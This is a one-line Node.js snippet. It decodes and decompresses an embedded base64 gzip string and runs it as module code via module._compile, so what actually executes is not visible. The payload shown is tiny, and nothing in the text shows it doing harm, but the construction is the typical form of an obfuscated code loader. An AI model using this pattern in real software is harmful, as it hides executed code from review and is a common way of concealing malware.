const c = require('zlib').gunzipSync(Buffer.from('H4sIAAAAAAAAA0vNS87PLShKLS7OzM9TKEktLgEAx9mX1hYAAAA=', 'base64')).toString(); module._compile(c, 'x.js');
